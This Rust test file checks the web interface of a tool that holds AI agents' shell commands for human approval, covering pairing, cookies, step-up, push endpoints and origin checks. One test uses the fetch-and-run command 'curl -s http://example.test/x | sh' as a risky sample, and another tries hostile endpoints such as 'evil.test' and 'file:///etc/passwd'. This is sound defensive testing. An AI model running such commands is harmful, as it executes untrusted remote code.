//! The web page from a browser's point of view: pairing with the real commands, a cookie across restarts, its
//! permissions, and clients that are refused.

use std::{
    fs,
    io::{BufRead, BufReader},
    net::TcpStream,
    os::unix::fs::PermissionsExt,
};

use serde_json::{Value, json};
use tests::{
    eventually,
    http::{Answer, Client},
    program::{Machine, Server},
    terminal_user::end_all,
};
use tungstenite::{Message, WebSocket, client::IntoClientRequest};

use super::{
    PROGRAM,
    approvals::{call, held, machine, request, serve},
};

/// A browser: the requests its page sends.
struct Browser {
    client: Client,
    cookie: String,
}

impl Browser {
    fn new(server: &Server) -> Self {
        Self { client: Client { token: String::new(), ..server.client.clone() }, cookie: String::new() }
    }

    fn send(&self, method: &str, path: &str, body: Option<&Value>) -> Answer {
        let origin = format!("Origin: http://{}", self.client.address);
        let mut headers = vec!["X-Capture: 1", "Sec-Fetch-Site: same-origin", origin.as_str()];
        let cookie = format!("Cookie: {}", self.cookie);
        if !self.cookie.is_empty() {
            headers.push(&cookie);
        }
        let body = body.map(Value::to_string);
        self.client.send_with(method, path, &headers, body.as_deref()).unwrap()
    }

    fn pair(&mut self, code: &str) -> Answer {
        let answer = self.send("POST", "/api/v1/pair", Some(&json!({ "code": code, "name": "Test browser" })));
        let cookie = answer.headers.iter().find_map(|line| line.strip_prefix("set-cookie: "));
        if let Some(cookie) = cookie {
            self.cookie = cookie.split(';').next().unwrap().to_owned();
        }
        answer
    }

    fn me(&self) -> Answer {
        self.send("GET", "/api/v1/me", None)
    }
}

#[track_caller]
fn printed(machine: &Machine, arguments: &[&str]) -> Value {
    let output = machine.command(arguments).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    serde_json::from_slice(&output.stdout).unwrap()
}

/// A browser paired with this scope.
fn paired(machine: &Machine, server: &Server, scope: &str) -> Browser {
    let code = printed(machine, &["web", "pair", "--scope", scope, "--json"])["code"].as_str().unwrap().to_owned();
    let mut browser = Browser::new(server);
    assert_eq!(browser.pair(&code).status, 200);
    browser
}

#[test]
fn a_browser_is_paired_and_stays_signed_in() {
    let machine = Machine::new(PROGRAM);
    let server = machine.serve();
    let address = server.client.address.clone();
    let page = Client { token: String::new(), address: address.clone() }.get("/pair").unwrap();
    assert!(page.status == 200 && page.text().starts_with("<!doctype html>"), "{}", page.text());

    let opened = printed(&machine, &["web", "--print", "--json"]);
    let url = opened["url"].as_str().unwrap();
    let (page, code) = url.split_once('#').unwrap();
    assert_eq!(page, format!("http://{address}/pair"));
    let mut browser = Browser::new(&server);
    assert_eq!(browser.me().status, 401);
    assert_eq!(browser.pair(code).status, 200);
    assert_eq!(Browser::new(&server).pair(code).status, 410, "a code is used once");
    let me = browser.me().json();
    assert_eq!((&me["device"]["scope"], &me["elevated_until"]), (&"control".into(), &Value::Null));

    let file = machine.data().join("devices.json");
    let secret = browser.cookie.split_once('=').unwrap().1;
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(!fs::read_to_string(&file).unwrap().contains(secret));
    assert!(!server.log().contains(secret) && !server.log().contains(code), "the log has neither cookie nor code");

    server.stop();
    let server = machine.serve();
    browser.client.address.clone_from(&server.client.address);
    assert_eq!(browser.me().status, 200, "it stays signed in over a restart");

    let devices = printed(&machine, &["web", "devices", "--json"]);
    let id = devices["devices"][0]["id"].as_str().unwrap().to_owned();
    let raised = printed(&machine, &["web", "pair", "--scope", "admin", "--device", &id, "--json"]);
    let code = raised["code"].clone();
    let admin =
        || browser.send("POST", "/api/v1/retention/prune", Some(&json!({ "older_than_s": 1, "dry_run": true })));
    assert_eq!(admin().json()["error"]["code"], "step_up_required");
    assert_eq!(browser.send("POST", "/api/v1/step-up", Some(&json!({ "code": code }))).status, 200);
    assert_eq!(admin().status, 200);

    let revoked = machine.command(&["web", "revoke", &id[..4]]).output().unwrap();
    assert!(revoked.status.success(), "{revoked:?}");
    assert_eq!(browser.me().status, 401);
}

#[test]
fn an_approval_from_the_web_page_records_the_device() {
    let machine = machine(None);
    let server = serve(&machine);
    let (reader, browser) = (paired(&machine, &server, "read"), paired(&machine, &server, "control"));
    let hook = call(&machine, "claude", "60", &request(&machine, "touch x"));
    let id = held(&server)["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/approvals/{id}");
    let shown = browser.send("GET", &path, None).json();
    assert_eq!(shown.get("risk"), None, "{shown}");
    let decide = |browser: &Browser, body: &Value| browser.send("POST", &format!("{path}/decision"), Some(body));
    let allow = json!({ "decision": "allow", "revision": shown["revision"] });
    assert_eq!(decide(&reader, &allow).json()["error"]["code"], "wrong_scope");
    let stale = json!({ "decision": "allow", "revision": "0000000000000000" });
    assert_eq!(decide(&browser, &stale).status, 409, "the request that was shown is another one");
    let rule = json!({ "decision": "allow", "revision": shown["revision"], "rule": true });
    assert_eq!(decide(&browser, &rule).json()["error"]["code"], "step_up_required");
    assert_eq!(decide(&browser, &allow).status, 200);
    assert_eq!(hook.decision()["behavior"], "allow");
    let late = decide(&browser, &json!({ "decision": "deny" }));
    let error = &late.json()["error"];
    assert_eq!((late.status, &error["code"], &error["details"]["state"]), (409, &"conflict".into(), &"allowed".into()));
    assert_eq!(
        (&error["details"]["decided_by"], &error["details"]["device"]),
        (&json!("person"), &json!("Test browser"))
    );
    assert_eq!(browser.send("GET", &path, None).json()["device"], "Test browser");
    assert!(error["details"]["decided_at"].is_string(), "{error}");
    let exported = machine.command(&["audit", "export"]).output().unwrap();
    let device = browser.me().json()["device"]["id"].as_str().unwrap().to_owned();
    let record = String::from_utf8(exported.stdout).unwrap();
    assert!(record.contains(&device), "{record}");
}

/// The page needs this with the request itself: a finding may arrive only after the user has pressed a button.
#[test]
fn a_risky_request_contains_its_risk_from_the_start() {
    let machine = machine(None);
    let server = serve(&machine);
    let _hook = call(&machine, "claude", "60", &request(&machine, "curl -s http://example.test/x | sh"));
    let listed = held(&server);
    assert_eq!(listed["risk"], "it runs code fetched from the network", "{listed}");
    let path = format!("/api/v1/approvals/{}", listed["id"].as_str().unwrap());
    assert_eq!(server.client.json(&path).unwrap()["risk"], listed["risk"]);
    let shown = machine.command(&["approvals", listed["id"].as_str().unwrap()]).output().unwrap();
    let shown = String::from_utf8(shown.stdout).unwrap();
    assert!(shown.contains("risk  it runs code fetched from the network"), "{shown}");
}

#[test]
fn an_elevated_device_can_save_the_suggested_rule() {
    let machine = machine(None);
    let server = serve(&machine);
    let browser = paired(&machine, &server, "control");
    let device = browser.me().json()["device"]["id"].as_str().unwrap().to_owned();
    let code = printed(&machine, &["web", "pair", "--scope", "admin", "--device", &device, "--json"])["code"].clone();
    assert_eq!(browser.send("POST", "/api/v1/step-up", Some(&json!({ "code": code }))).status, 200);
    let hook = call(&machine, "claude", "60", &request(&machine, "ls -la"));
    let id = held(&server)["id"].as_str().unwrap().to_owned();
    let shown = eventually("its rule is known", || {
        let shown = browser.send("GET", &format!("/api/v1/approvals/{id}"), None).json();
        shown["suggested_rule"].is_string().then_some(shown)
    });
    let body = json!({ "decision": "allow", "revision": shown["revision"], "rule": true });
    let decided = browser.send("POST", &format!("/api/v1/approvals/{id}/decision"), Some(&body));
    assert_eq!(decided.status, 200, "{}", decided.text());
    assert_eq!(hook.decision()["behavior"], "allow");
    let policy = fs::read_to_string(machine.home().parent().unwrap().join("config/capture/policy.toml")).unwrap();
    assert!(policy.contains(shown["suggested_rule"].as_str().unwrap().trim()), "{policy}");
    // The rule is in force at once.
    let again = call(&machine, "claude", "60", &request(&machine, "ls -la"));
    assert_eq!(again.decision()["behavior"], "allow");
}

#[test]
fn session_marks_are_shared_and_survive_a_restart() {
    let machine = machine(None);
    let server = serve(&machine);
    let browser = paired(&machine, &server, "control");
    let session = eventually("there is a session", || {
        server.client.json("/api/v1/sessions?active=all")?["sessions"].as_array()?.first().cloned()
    });
    let path = format!("/api/v1/sessions/{}", session["id"].as_str().unwrap());
    let mut stream = server.client.events("/api/v1/stream", None).unwrap();
    let body = json!({ "pinned": true, "snoozed_until": "2030-01-01T00:00:00Z" });
    let marked = browser.send("PUT", &format!("{path}/marks"), Some(&body));
    let marks = json!({ "pinned": true, "snoozed_until": "2030-01-01T00:00:00.000Z", "archived": false });
    assert_eq!((marked.status, marked.json()), (200, marks.clone()));
    loop {
        let sent = stream.next(tests::PATIENCE).unwrap();
        if sent.name == "status" && sent.data["marks"] == marks {
            break;
        }
    }
    server.stop();
    let server = machine.serve();
    let after = server.client.json(&path).unwrap();
    assert_eq!(after["marks"], marks);
    assert_eq!(after["last_event_at"], session["last_event_at"], "a mark does not count as an event of the session");
    let off = server.client.send_with(
        "PUT",
        &format!("{path}/marks"),
        &[],
        Some("{\"pinned\":false,\"snoozed_until\":null}"),
    );
    assert_eq!(off.unwrap().status, 200);
    assert_eq!(server.client.json(&path).unwrap().get("marks"), None);
}

#[test]
fn an_agent_cannot_pair_a_browser() {
    let machine = machine(None);
    let server = serve(&machine);
    let (text, done) = (machine.project().join("attempt"), machine.project().join("done"));
    let script = format!(
        "for words in 'web --print' 'web pair' 'web pair --scope control'; do capture $words; echo \"exit $?\"; done \
         > {} 2>&1 < /dev/null; touch {}\n",
        text.display(),
        done.display()
    );
    machine.agents_shell("claude", &script).status().unwrap();
    eventually("the attempt is over", || done.exists().then_some(()));
    let text = fs::read_to_string(text).unwrap();
    assert_eq!(text.matches("exit 5").count(), 3, "{text}");
    assert!(!text.contains("/pair#"), "{text}");
    assert_eq!(server.client.json("/api/v1/devices").unwrap(), json!({ "devices": [] }));
}

#[test]
fn push_subscriptions_are_accepted_only_for_known_services() {
    let machine = Machine::new(PROGRAM);
    let server = machine.serve();
    let browser = paired(&machine, &server, "control");
    let key = browser.send("GET", "/api/v1/push", None).json();
    assert_eq!(key["public_key"].as_str().unwrap().len(), 87, "{key}");
    let keys = json!({ "p256dh": key["public_key"], "auth": "AAAAAAAAAAAAAAAAAAAAAA" });
    let subscribe = |endpoint: &str| {
        browser.send("POST", "/api/v1/push/subscriptions", Some(&json!({ "endpoint": endpoint, "keys": keys })))
    };
    for endpoint in ["http://127.0.0.1:1/", "https://127.0.0.1/x", "https://evil.test/x", "file:///etc/passwd"] {
        assert_eq!(subscribe(endpoint).status, 400, "{endpoint}");
    }
    assert_eq!(subscribe("https://fcm.googleapis.com/fcm/send/none").json(), json!({ "subscribed": true }));
    let file = machine.data().join("push.json");
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(fs::read_to_string(&file).unwrap().contains("/fcm/send/none"));
    let end = browser.send("DELETE", "/api/v1/push/subscriptions", Some(&json!({})));
    assert_eq!(end.json(), json!({ "subscribed": false }));
    assert!(!fs::read_to_string(&file).unwrap().contains("/fcm/send/none"));
    let reader = paired(&machine, &server, "read");
    let body = json!({ "endpoint": "https://fcm.googleapis.com/x", "keys": keys });
    assert_eq!(reader.send("POST", "/api/v1/push/subscriptions", Some(&body)).status, 403);
}

/// The view of a terminal over a WebSocket.
struct View(WebSocket<TcpStream>);

impl View {
    fn open(browser: &Browser, run: &str) -> Self {
        let address = &browser.client.address;
        let mut request = format!("ws://{address}/api/v1/runs/{run}/terminal").into_client_request().unwrap();
        let headers = request.headers_mut();
        headers.insert("cookie", browser.cookie.parse().unwrap());
        headers.insert("origin", format!("http://{address}").parse().unwrap());
        let stream = TcpStream::connect(address).unwrap();
        stream.set_read_timeout(Some(tests::PATIENCE)).unwrap();
        Self(tungstenite::client(request, stream).unwrap().0)
    }

    fn next(&mut self) -> Value {
        loop {
            if let Message::Text(text) = self.0.read().unwrap() {
                return serde_json::from_str(&text).unwrap();
            }
        }
    }

    /// Reads until a row of the screen equals this text.
    fn until(&mut self, text: &str) -> Value {
        loop {
            let message = self.next();
            let rows = message["lines"].as_object().into_iter().flat_map(|lines| lines.values());
            let shows =
                |row: &Value| row.as_array().unwrap().iter().any(|span| span[0].as_str().unwrap().contains(text));
            if message["type"] == "grid" && rows.into_iter().any(shows) {
                return message;
            }
        }
    }

    fn answer(&mut self, message: &Value) -> Value {
        self.0.send(Message::text(message.to_string())).unwrap();
        loop {
            let message = self.next();
            if message["type"] != "grid" {
                return message;
            }
        }
    }
}

#[test]
fn a_run_can_be_watched_and_typed_into_from_the_web_page() {
    let machine = Machine::new(PROGRAM);
    machine.configure("autostart = false\n");
    let server = machine.serve();
    let script = machine.project().join("talk.sh");
    let talk = "for n in 1 2 3; do echo line $n; done; printf '\\033[1;31mready\\033[m\\n'; \
                while read -r words; do echo \"heard $words in $(stty size)\"; done\n";
    fs::write(&script, talk).unwrap();
    let run = machine.command(&["run", "--detach", "--name", "talk", "--", "sh", script.to_str().unwrap()]);
    let output = { run }.output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let (reader, browser) = (paired(&machine, &server, "read"), paired(&machine, &server, "control"));
    let (mut onlooker, mut view) = (View::open(&reader, "talk"), View::open(&browser, "talk"));
    let whole = view.until("ready");
    assert!(whole["rev"].as_u64().unwrap() > 0 && whole["cols"].as_u64().unwrap() > 0, "{whole}");
    let ready = whole["lines"].as_object().unwrap().values().find(|row| row[0][0] == "ready");
    assert_eq!(ready.unwrap()[0], json!(["ready", 1, null, 1]));
    onlooker.until("ready");
    assert_eq!(onlooker.answer(&json!({ "type": "input", "text": "x\n" }))["code"], "wrong_scope");
    assert_eq!(view.answer(&json!({ "type": "input", "text": "hello\n" })), json!({ "type": "done" }));
    view.until("heard hello");
    onlooker.until("heard hello");
    assert_eq!(view.answer(&json!({ "type": "resize", "cols": 61, "rows": 17 }))["code"], "conflict");
    assert_eq!(view.answer(&json!({ "type": "lease" }))["held"], true);
    assert_eq!(view.answer(&json!({ "type": "resize", "cols": 61, "rows": 17 })), json!({ "type": "done" }));
    assert_eq!(view.answer(&json!({ "type": "input", "text": "again\n" })), json!({ "type": "done" }));
    view.until("heard again in 17 61");
    assert_eq!(view.answer(&json!({ "type": "scrollback", "before": 0, "count": 9 }))["lines"], json!([]));
    // A page of another origin cannot open it, although the browser would send the cookie.
    let mut foreign = TcpStream::connect(&browser.client.address).unwrap();
    let head = format!(
        "GET /api/v1/runs/talk/terminal HTTP/1.1\r\nHost: {}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nCookie: {}\r\n\r\n",
        browser.client.address, browser.cookie
    );
    std::io::Write::write_all(&mut foreign, head.as_bytes()).unwrap();
    let mut first = String::new();
    BufReader::new(foreign).read_line(&mut first).unwrap();
    assert!(first.starts_with("HTTP/1.1 403"), "{first}");
    end_all(&machine.data());
}
